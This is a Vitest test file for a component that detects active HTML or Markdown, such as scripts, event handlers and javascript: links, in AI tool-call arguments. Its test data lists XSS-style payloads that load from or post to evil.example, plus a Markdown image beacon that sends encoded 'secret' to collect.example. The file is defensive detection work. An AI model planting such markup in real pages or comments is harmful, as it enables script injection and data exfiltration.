// Which texts would do something where they are shown as more than text, and which only speak of it.
import { expect, it } from 'vitest'
import { hasActiveMarkup } from '../../../core/approval/active-markup.ts'
import { deceptionsOf, deceptiveIn } from '../../../core/approval/deceptive.ts'

it.each([
  ['a script', '<script>fetch("/x")</script>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example>'],
  ['a script that closes itself', '<script/src=x>'],
  ['a frame', '<iframe src="https://evil.example">'],
  ['a picture', '<img src=x>'],
  ['a picture with slashes for blanks', '<img/src="x"/onerror=alert(1)>'],
  ['a drawing that runs', '<svg onload=alert(1)>'],
  ['what runs when it is touched', '<p title="a" onmouseover="alert(1)">'],
  ['what runs, over two lines', '<a\nhref="x"\nonclick = "go()">'],
  ['another page after a moment', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a form', '<form action="https://evil.example">'],
  ['an address that is a program', '<a href="javascript:alert(1)">'],
  ['one in Markdown', '[docs](javascript:alert(1))'],
  ['one in a Markdown reference', '[docs]: javascript:alert(1)'],
  ['a page in an address', '<a href=data:text/html;base64,PHNjcmlwdD4=>'],
  ['a picture in Markdown from elsewhere', '![build](https://collect.example/badge?d=c2VjcmV0)'],
  ['the same without a scheme', '![x](//collect.example/y)'],
])('%s does', (_, text) => {
  expect(hasActiveMarkup(text)).toBe(true)
  expect(hasActiveMarkup(`${'before '.repeat(1000)}${text} after`)).toBe(true)
})

it.each([
  ['prose', 'JavaScript: the good parts. On load = fine.'],
  ['a comparison', 'if (a < b && onset = c > d)'],
  ['types', 'Map<string, Array<object>> and List<image>'],
  ['a usage line', 'cp <source> <destination> [options]'],
  ['an address', 'see <https://example.com/a?on=1>'],
  ['a plain link', '[docs](https://example.com)'],
  ['a link in HTML', '<a href="https://example.com">docs</a>'],
  ['a picture of the same folder', '![plan](plan.png)'],
  ['bold text', '<b>now</b>'],
])('%s does not', (_, text) => {
  expect(hasActiveMarkup(text)).toBe(false)
})

const shown = { action: 'tools/call' as const, who: {}, where: {} }
const page = '<script>go()</script>'

it.each<[string, string, Record<string, unknown>, boolean]>([
  ['a comment', 'create_comment', { body: page }, true],
  ['a name of an argument', 'create_comment', { [page]: 1 }, true],
  ['what stands deep', 'create_comment', { list: [{ a: page }] }, true],
  ['a file that is written', 'write_file', { path: 'index.html', content: page }, false],
  ['a file that is edited', 'edit_file', { path: 'a.tsx', old_str: 'x', new_str: page }, false],
  ['a file and something else', 'write_file', { path: 'index.html', content: 'x', message: page }, true],
])('markup in %s: raises the care where it is more than a file', (_, tool, args, raises) => {
  expect(deceptionsOf({ ...shown, tool, arguments: args })).toEqual({ characters: 0, markup: raises, unseen: false })
  expect(deceptiveIn({ ...shown, tool, arguments: args })).toBe(raises ? 1 : 0)
})

it('what cannot be looked at whole is not known to be honest', () => {
  const args = { body: 'x'.repeat(2_000_000) }
  expect(deceptionsOf({ ...shown, tool: 't', arguments: args })).toEqual({ characters: 0, markup: false, unseen: true })
  expect(deceptiveIn({ ...shown, tool: 't', arguments: args })).toBe(1)
})

it('a hostile megabyte comes to an end', () => {
  for (const unit of ['<a ', '<a on', '<a onx   ', '![', '![a', '](', '= ', '<img ', '<<', '] ]:  <']) {
    expect(hasActiveMarkup(unit.repeat(1_000_000 / unit.length))).toBe(false)
  }
})
